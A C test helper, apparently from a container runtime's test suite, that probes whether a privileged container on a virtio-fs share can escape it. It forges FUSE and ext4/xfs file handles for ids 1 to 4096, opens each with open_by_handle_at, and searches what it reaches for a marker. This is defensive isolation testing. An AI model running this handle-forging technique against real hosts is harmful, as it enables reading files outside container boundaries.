/*
 * handle-escape DIR MARKER: tries to reach host files outside a pod's shared directory
 * through file handles, from a privileged container whose DIR is on the share (virtio-fs).
 *
 * 1. name_to_handle_at(DIR) and open_by_handle_at of that handle (the guest's own handle).
 * 2. Forged handles: FUSE's handle type (0x81: node id and generation) for node ids 1..4096,
 *    and ext4/xfs-style handles (types 1 and 2: inode and generation) for inodes 1..4096,
 *    each opened on DIR's mount.
 * Every file or directory opened is searched for MARKER (in a file's first 4 KiB, or as a
 * name in a directory). Prints one line:
 *   handles: own=OK|ERRNO forged_opened=N marker_found=N
 * Built static by tests/tests/cri.rs; run in the container.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static int has_marker(int fd, const char *marker)
{
    struct stat st;
    if (fstat(fd, &st) != 0)
        return 0;
    if (S_ISDIR(st.st_mode)) {
        int dfd = openat(fd, ".", O_RDONLY | O_DIRECTORY);
        if (dfd < 0)
            return 0;
        DIR *d = fdopendir(dfd);
        if (!d) {
            close(dfd);
            return 0;
        }
        int found = 0;
        struct dirent *e;
        while ((e = readdir(d)) != NULL)
            if (strcmp(e->d_name, marker) == 0)
                found = 1;
        closedir(d);
        return found;
    }
    if (S_ISREG(st.st_mode)) {
        char buf[4097];
        ssize_t n = pread(fd, buf, 4096, 0);
        if (n <= 0)
            return 0;
        buf[n] = 0;
        return strstr(buf, marker) != NULL;
    }
    return 0;
}

static int try_handle(int mount_fd, int type, const void *body, unsigned len, const char *marker,
                      int *opened)
{
    char space[sizeof(struct file_handle) + 128];
    struct file_handle *h = (struct file_handle *)space;
    h->handle_bytes = len;
    h->handle_type = type;
    memcpy(h->f_handle, body, len);
    int fd = open_by_handle_at(mount_fd, h, O_RDONLY);
    if (fd < 0)
        fd = open_by_handle_at(mount_fd, h, O_PATH);
    if (fd < 0)
        return 0;
    (*opened)++;
    int found = has_marker(fd, marker);
    close(fd);
    return found;
}

int main(int argc, char **argv)
{
    if (argc != 3) {
        fprintf(stderr, "usage: handle-escape DIR MARKER\n");
        return 2;
    }
    const char *dir = argv[1], *marker = argv[2];
    int mount_fd = open(dir, O_RDONLY | O_DIRECTORY);
    if (mount_fd < 0) {
        perror(dir);
        return 2;
    }
    char space[sizeof(struct file_handle) + 128];
    struct file_handle *h = (struct file_handle *)space;
    h->handle_bytes = 128;
    int mount_id;
    char own[32];
    if (name_to_handle_at(AT_FDCWD, dir, h, &mount_id, 0) == 0) {
        int fd = open_by_handle_at(mount_fd, h, O_RDONLY);
        snprintf(own, sizeof own, "%s", fd >= 0 ? "OK" : strerrorname_np(errno));
        if (fd >= 0)
            close(fd);
    } else {
        snprintf(own, sizeof own, "%s", strerrorname_np(errno));
    }
    int opened = 0, found = 0;
    for (uint64_t id = 1; id <= 4096; id++) {
        struct {
            uint64_t nodeid;
            uint32_t gen;
        } __attribute__((packed)) fuse = {id, 0};
        found += try_handle(mount_fd, 0x81, &fuse, sizeof fuse, marker, &opened);
        uint32_t ino_gen[2] = {(uint32_t)id, 0};
        found += try_handle(mount_fd, 1, ino_gen, sizeof ino_gen, marker, &opened);
        found += try_handle(mount_fd, 2, ino_gen, sizeof ino_gen, marker, &opened);
    }
    printf("handles: own=%s forged_opened=%d marker_found=%d\n", own, opened, found);
    return 0;
}
